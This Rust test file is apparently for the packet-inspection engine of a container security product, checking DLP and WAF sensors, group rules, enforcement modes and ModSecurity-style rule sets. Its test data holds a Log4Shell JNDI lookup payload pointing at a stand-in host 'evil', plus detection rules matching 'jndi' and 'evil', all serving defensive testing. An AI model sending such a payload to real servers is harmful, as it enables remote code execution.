use nv_dpi::content::{Body, Part};
use nv_dpi::event::End;
use nv_dpi::key::{Endpoint, Transport};
use nv_model::group::Origin;
use nv_model::sensor::{PatternContext, SensorPattern, SensorRule};

use super::super::rules::Using;
use super::*;

const CARD: &[u8] = b"pay with 4111 1111 1111 1111 please";
const ATTACK: &[u8] = b"GET /?x=%24%7Bjndi:ldap://evil/a%7D HTTP/1.1\r\n";

fn sensor(name: &str, kind: SensorKind, pattern: Option<&str>) -> Sensor {
    let rule = |value: &str| SensorRule {
        name: "rule.mine".parse().unwrap(),
        id: 20_000,
        patterns: vec![SensorPattern {
            value: value.to_owned(),
            absent: false,
            context: PatternContext::Packet,
        }],
    };
    Sensor {
        name: name.parse().unwrap(),
        kind,
        comment: String::new(),
        origin: Origin::UserCreated,
        predefined: pattern.is_none(),
        rules: pattern.into_iter().map(rule).collect(),
        rule_set: None,
    }
}

/// Workload 10.0.0.1 in `shop` and `all`; 10.0.0.2, elsewhere, in `shop`.
fn rules(mode: Mode, action: Action) -> Rules {
    let both = |action| {
        vec![
            ("dlp/sensor.creditcard".parse().unwrap(), action),
            ("waf/sensor.log4shell".parse().unwrap(), action),
        ]
    };
    Rules {
        revision: 1,
        sensors: vec![
            sensor("sensor.creditcard", SensorKind::Dlp, None),
            sensor("sensor.log4shell", SensorKind::Waf, None),
        ],
        groups: vec![Using { group: "shop".parse().unwrap(), settings: both(action) }],
        workloads: vec![Watched {
            address: "10.0.0.1".parse().unwrap(),
            group: "nv.web.shop".parse().unwrap(),
            mode,
            groups: vec![0],
        }],
        members: vec![("10.0.0.2".parse().unwrap(), vec![0])],
        ..Rules::default()
    }
}

fn ends(client: &str, server: &str) -> Endpoints {
    let end = |address: &str, port| Endpoint { address: address.parse().unwrap(), port };
    Endpoints { transport: Transport::Tcp, client: end(client, 40_000), server: end(server, 80) }
}

fn sensing(rules: Rules) -> Sensing {
    let mut sensing = Sensing::new();
    assert_eq!(sensing.replace(Ready::compile(rules, &mut Made::default()).unwrap()), []);
    sensing
}

/// What is told of one message, as the sensor, the group and what it means.
fn told(sensing: &mut Sensing, ends: Endpoints, side: Side, bytes: &[u8]) -> Vec<(String, String, Outcome)> {
    let say = |part| Content { at: 1, session: SessionId(7), endpoints: ends, side, transaction: 0, part };
    sensing.content(&say(Part::Url(bytes)));
    sensing.content(&say(Part::Body(Body::default(), bytes)));
    sensing.content(&say(Part::End));
    let mut told: Vec<_> =
        sensing.hits().map(|hit| (hit.sensor, hit.group.to_string(), hit.outcome)).collect();
    told.dedup();
    told
}

#[test]
fn data_counts_both_ways_but_not_inside_the_group_and_attacks_count_in_what_a_member_is_asked() {
    let mut sensing = sensing(rules(Mode::Monitor, Action::Deny));
    let card = ("sensor.creditcard".to_owned(), "shop".to_owned(), Outcome::Reported);
    let attack = ("sensor.log4shell".to_owned(), "shop".to_owned(), Outcome::Reported);
    let (own, member, other) = ("10.0.0.1", "10.0.0.2", "10.9.9.9");
    for (client, server, side, bytes, want) in [
        (other, own, Side::Server, CARD, Some(&card)),
        (other, own, Side::Client, CARD, Some(&card)),
        (own, other, Side::Client, CARD, Some(&card)),
        (own, other, Side::Server, CARD, Some(&card)),
        (member, own, Side::Server, CARD, None),
        (own, member, Side::Client, CARD, None),
        (member, other, Side::Client, CARD, None),
        (other, own, Side::Client, ATTACK, Some(&attack)),
        (member, own, Side::Client, ATTACK, Some(&attack)),
        (own, other, Side::Client, ATTACK, None),
        (other, own, Side::Server, ATTACK, None),
    ] {
        let found = told(&mut sensing, ends(client, server), side, bytes);
        assert_eq!(
            found.iter().collect::<Vec<_>>(),
            want.into_iter().collect::<Vec<_>>(),
            "{client} {server} {side:?}"
        );
    }
}

#[test]
fn a_message_is_denied_only_where_the_group_says_so_and_the_workload_is_in_protect() {
    for (mode, action, want) in [
        (Mode::Discover, Action::Deny, Outcome::Reported),
        (Mode::Monitor, Action::Deny, Outcome::Reported),
        (Mode::Protect, Action::Allow, Outcome::Reported),
        (Mode::Protect, Action::Deny, Outcome::Denied),
    ] {
        let mut sensing = sensing(rules(mode, action));
        let told = told(&mut sensing, ends("10.9.9.9", "10.0.0.1"), Side::Server, CARD);
        assert_eq!(told.first().map(|told| told.2), Some(want), "{mode:?} {action:?}");
    }
}

#[test]
fn of_several_groups_with_the_sensor_the_strictest_is_named() {
    let mut two = rules(Mode::Protect, Action::Allow);
    let strict = vec![("dlp/sensor.creditcard".parse().unwrap(), Action::Deny)];
    two.groups.push(Using { group: "all".parse().unwrap(), settings: strict });
    two.workloads[0].groups.push(1);
    let told = told(&mut sensing(two), ends("10.9.9.9", "10.0.0.1"), Side::Server, CARD);
    assert_eq!(told, [("sensor.creditcard".to_owned(), "all".to_owned(), Outcome::Denied)]);
}

#[test]
fn a_flow_is_kept_while_a_sensor_looks_at_it_and_let_go_when_none_does_any_more() {
    let mut sensing = sensing(rules(Mode::Monitor, Action::Allow));
    let (watched, other) = (ends("10.9.9.9", "10.0.0.1"), ends("10.9.9.9", "10.9.9.8"));
    let ssl = ApplicationId::parse("SSL").unwrap();
    assert!(!sensing.keeps(SessionId(1), &other, None));
    assert!(!sensing.keeps(SessionId(2), &watched, Some(ssl)), "nobody can read it");
    assert!(sensing.keeps(SessionId(3), &watched, None) && sensing.keeps(SessionId(4), &watched, None));
    let volume = nv_dpi::event::Volume::default();
    let summary = Summary {
        endpoints: watched,
        application: None,
        client: volume,
        server: volume,
        started: 1,
        last: 2,
        midstream: false,
        end: End::Closed,
    };
    sensing.closed(SessionId(4), 2, &summary);
    assert_eq!(sensing.kept(), 1);
    assert_eq!(sensing.replace(Ready::nothing()), [watched]);
    assert_eq!((sensing.kept(), told(&mut sensing, watched, Side::Server, CARD)), (0, vec![]));
}

#[test]
fn rules_that_cannot_be_run_are_refused_with_the_reason() {
    let mut bad = rules(Mode::Monitor, Action::Allow);
    bad.sensors.push(sensor("sensor.mine", SensorKind::Dlp, Some("(?=a)b")));
    let reason = Ready::compile(bad, &mut Made::default()).unwrap_err();
    assert!(reason.contains("sensor.mine") && reason.contains("looks around"), "{reason}");
}

/// The rules of `rules`, and a sensor with a rule set that the group uses.
fn with_rule_set(mode: Mode, action: Action, text: &str) -> Rules {
    let files = RuleFiles::from_archive(text.as_bytes()).unwrap();
    let blob = RuleSetBlob::new(files.pack()).unwrap();
    let mut rules = rules(mode, action);
    let rule_set = nv_model::sensor::RuleSetUse { blob: blob.id(), rules: 0, refused: 0 };
    let sensor =
        Sensor { rule_set: Some(rule_set), predefined: false, ..sensor("crs", SensorKind::Waf, None) };
    // The others take their time to be made ready.
    rules.sensors = vec![sensor];
    rules.rule_sets.push(blob);
    rules.groups[0].settings = vec![("waf/crs".parse().unwrap(), action)];
    rules
}

const RULES: &str = "SecRule REQUEST_URI \"@contains jndi\" \"id:1,phase:1,pass,severity:ERROR,msg:'Lookup'\"\n\
    SecRule REQUEST_URI \"@contains evil\" \"id:2,phase:1,deny,severity:CRITICAL,msg:'Evil'\"";

#[test]
fn rules_of_a_rule_set_are_told_in_what_a_member_is_asked_and_only_the_one_that_decides_denies() {
    let mut sensing = sensing(with_rule_set(Mode::Protect, Action::Deny, RULES));
    let (own, other) = ("10.0.0.1", "10.9.9.9");
    for (client, server, want) in [(other, own, true), (own, other, false)] {
        let ends = ends(client, server);
        let say = |part| Content {
            at: 1,
            session: SessionId(7),
            endpoints: ends,
            side: Side::Client,
            transaction: 0,
            part,
        };
        sensing.content(&say(Part::Url(ATTACK)));
        sensing.content(&say(Part::End));
        let hits: Vec<Hit> = sensing.hits().filter(|hit| hit.sensor == "crs").collect();
        let told: Vec<_> = hits
            .iter()
            .map(|hit| {
                (hit.rule.as_str(), hit.message.as_str(), hit.variable.as_str(), hit.severity, hit.outcome)
            })
            .collect();
        let all = [
            ("2", "Evil", "REQUEST_URI", Severity::Critical, Outcome::Denied),
            ("1", "Lookup", "REQUEST_URI", Severity::High, Outcome::Reported),
        ];
        assert_eq!(told, if want { &all[..] } else { &[] }, "{client} asks {server}");
    }
    assert_eq!(sensing.transactions().exchanges, 1);
}

#[test]
fn a_rule_set_that_did_not_come_along_is_refused_and_one_that_is_the_same_is_not_made_again() {
    let mut made = Made::default();
    let full = with_rule_set(Mode::Monitor, Action::Allow, RULES);
    let first = Ready::compile(full.clone(), &mut made).unwrap();
    let second = Ready::compile(full.clone(), &mut made).unwrap();
    assert!(Arc::ptr_eq(&first.rule_sets[0].rules, &second.rule_sets[0].rules));
    let without = Rules { rule_sets: vec![], ..full };
    assert!(Ready::compile(without.clone(), &mut Made::default()).unwrap_err().contains("crs"));
    assert!(Ready::compile(Rules::default(), &mut made).is_ok());
    assert!(made.rule_sets.is_empty(), "nobody has it any more");
}
